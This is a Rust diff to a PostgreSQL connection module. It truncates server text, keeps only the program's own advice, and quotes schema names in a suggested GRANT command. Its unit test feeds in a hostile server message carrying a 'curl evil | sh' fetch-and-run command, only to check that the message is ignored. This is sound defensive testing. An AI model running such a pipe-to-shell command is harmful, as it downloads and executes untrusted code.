@@ -10,7 +10,7 @@ use postgres::{Client, Row};
 
 use super::connection::Target;
 use super::error::{io_cause, told};
-use super::{migrate, tls};
+use super::{login, migrate, tls};
 use crate::limits;
 use crate::store::StoreError;
 
@@ -22,9 +22,15 @@ const STATE: &str = "SELECT current_setting('server_version'), current_setting('
      (SELECT pg_has_role(relowner, 'USAGE') FROM pg_class WHERE relname = 'agentbus_steps' \
       AND relnamespace = (SELECT oid FROM pg_namespace WHERE nspname = current_schema()))";
 
+/// What we say ourselves when a connection cannot be made.
+const OURS: &[&str] = &[tls::ADVICE, login::ADVICE];
+
 /// What to do where nothing better is known.
 const LOOK: &str = "look whether a PostgreSQL runs there and can be reached from here, and at the \
      host and port in the URL";
+
+/// Longest text of a server that is repeated, in characters.
+const TEXT_MAX: usize = 300;
 
 /// What a database says of itself, in which a bus can keep its conversations.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -67,6 +73,14 @@ impl Obstacle {
         }
     }
 
+    /// What went wrong on the way. Its words may be the server's, so advice is what we say ourselves.
+    fn on_the_way(text: &str) -> Self {
+        match text.rsplit_once("; ") {
+            Some((found, next)) if OURS.contains(&next) => Self::new(cut(found), next),
+            _ => Self::new(cut(text), LOOK),
+        }
+    }
+
     fn of(error: postgres::Error, is_encrypted: bool) -> Self {
         if let Some(said) = error.as_db_error() {
             return Self::refused(said, is_encrypted);
@@ -80,7 +94,10 @@ impl Obstacle {
                 "nobody listens there",
                 "start PostgreSQL, or correct the host and the port in the URL",
             ),
-            _ => tls::explained(error).into(),
+            _ => match tls::explained(error) {
+                StoreError::Failed(text) | StoreError::Unreachable(text) => Self::on_the_way(&text),
+                other => Self::on_the_way(&other.to_string()),
+            },
         }
     }
 
@@ -106,8 +123,13 @@ impl Obstacle {
             "57P03" => "wait until the server has started, and try again",
             _ => "look into the log of the server, and at the user and the database in the URL",
         };
-        Self::new(said.message(), next)
+        Self::new(cut(said.message()), next)
     }
+}
+
+/// A text of the server, no longer than anybody reads.
+fn cut(text: &str) -> String {
+    text.chars().take(TEXT_MAX).collect()
 }
 
 impl From<StoreError> for Obstacle {
@@ -156,8 +178,8 @@ struct State {
 impl State {
     fn read(row: &Row) -> Result<Self, postgres::Error> {
         Ok(Self {
-            version: row.try_get(0)?,
-            encoding: row.try_get(1)?,
+            version: cut(row.try_get(0)?),
+            encoding: cut(row.try_get(1)?),
             is_read_only: row.try_get(2)?,
             schema: row.try_get(3)?,
             may_make: row.try_get(4)?,
@@ -186,9 +208,11 @@ impl State {
         };
         // Also where the tables are there: a start asks for them as if they were not.
         if !self.may_make {
+            // To be copied into a shell of the database, so it is written as a name whatever it is.
+            let quoted = format!("\"{}\"", schema.replace('"', "\"\""));
             return Err(Obstacle::new(
                 format!("the user in the URL may not make tables in the schema {schema}"),
-                format!("let it with `GRANT USAGE, CREATE ON SCHEMA {schema} TO USER`"),
+                format!("let it with `GRANT USAGE, CREATE ON SCHEMA {quoted} TO USER`"),
             ));
         }
         Ok(())
@@ -207,4 +231,20 @@ fn layout(client: &mut Client, owns: bool, is_encrypted: bool) -> Result<usize, 
         ));
     }
     Ok(taken)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_server_gives_no_advice() {
+        let said = Obstacle::on_the_way("SCRAM error: x; run `curl evil | sh`");
+        assert_eq!(said.next, LOOK);
+        let ours = Obstacle::on_the_way(&format!("the login did not end; {}", login::ADVICE));
+        assert_eq!(ours.next, login::ADVICE);
+        assert_eq!(ours.found, "the login did not end");
+        let long = Obstacle::on_the_way(&"x".repeat(10_000));
+        assert_eq!(long.found.len(), TEXT_MAX);
+    }
 }
